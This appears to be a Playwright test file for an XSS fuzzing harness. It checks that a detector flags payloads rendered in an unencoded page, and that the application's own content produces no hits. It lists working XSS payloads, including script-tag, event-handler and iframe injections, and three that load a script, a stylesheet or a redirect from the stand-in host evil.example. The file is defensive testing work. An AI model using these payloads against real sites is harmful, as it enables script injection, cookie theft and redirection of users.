import { expect, test } from '@playwright/test';
import { XSS_PAYLOADS } from './PAYLOADS.ts';
import { CORPORA_AMOUNTS, runContent, runRequests } from './runCorpora.ts';
import { watchHits } from './watchHits.ts';

// The short form of the corpora in `npm run fuzz`: the same payloads in fewer pages.
const LIMIT_MS = 240_000;
const ORIGIN = 'http://localhost:1';

/** Payloads that need no quote, script or address around them, and what each one achieves in a page without encoding. */
const RUN_UNENCODED: [payload: string, hit: RegExp][] = [
  ['<script>alert(1)</script>', /code ran/],
  ['<img src=x onerror=alert(1)>', /code ran/],
  ['<svg onload=alert(1)>', /code ran/],
  ['<iframe srcdoc="<script>parent.alert(1)</script>">', /code ran/],
  ['<details open ontoggle=alert(1)>', /code ran/],
  ['<script src=//evil.example/x.js></script>', /a request to http:\/\/evil\.example/],
  ['<link rel=stylesheet href=//evil.example/x.css>', /a request to http:\/\/evil\.example/],
  ['<meta http-equiv=refresh content="0;url=//evil.example/">', /a navigation to http:\/\/evil\.example/],
];

test('a page that shows what it was sent as HTML is found', async ({ browser }) => {
  test.setTimeout(LIMIT_MS);
  for (const [payload, hit] of RUN_UNENCODED) {
    expect(XSS_PAYLOADS).toContain(payload);
    const context = await browser.newContext();
    const watch = await watchHits(context, ORIGIN);
    await context.route(`${ORIGIN}/**`, (route) =>
      route.fulfill({ contentType: 'text/html', body: `<title>A page without encoding</title><p>${payload}` }),
    );
    watch.begin(payload);
    const page = await context.newPage();
    // A payload that leads elsewhere ends the load.
    await page.goto(`${ORIGIN}/`).catch(() => undefined);
    await expect.poll(() => watch.hits.join('\n'), { message: payload, timeout: 30_000 }).toMatch(hit);
    await context.close();
  }
});

test('no payload of a link, cookie or stored value runs or leads away', async ({ browser }) => {
  test.setTimeout(LIMIT_MS);
  expect(await runRequests(browser, CORPORA_AMOUNTS.short)).toEqual([]);
});

test('no payload of content, flags or consent texts runs or leads away', async ({ browser }) => {
  test.setTimeout(LIMIT_MS);
  expect(await runContent(browser, CORPORA_AMOUNTS.short)).toEqual([]);
});
